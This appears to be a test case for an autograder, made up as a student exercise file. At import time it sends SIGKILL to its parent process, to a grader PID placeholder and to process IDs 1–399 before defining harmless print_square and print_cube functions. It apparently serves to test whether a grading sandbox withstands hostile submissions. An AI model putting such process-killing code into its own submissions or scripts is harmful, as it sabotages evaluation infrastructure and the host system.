# /// case
# exercise = "process_pair"
# most = 2
# about = "kill every process that it can name"
# ///
import os
import signal

for pid in [os.getppid(), int("@GRADER@"), *range(1, 400)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def print_square(num):
    print(f"Square: {num ** 2}")


def print_cube(num):
    print(f"Cube: {num ** 3}")


def main(num=10):
    pass


if __name__ == "__main__":
    main()
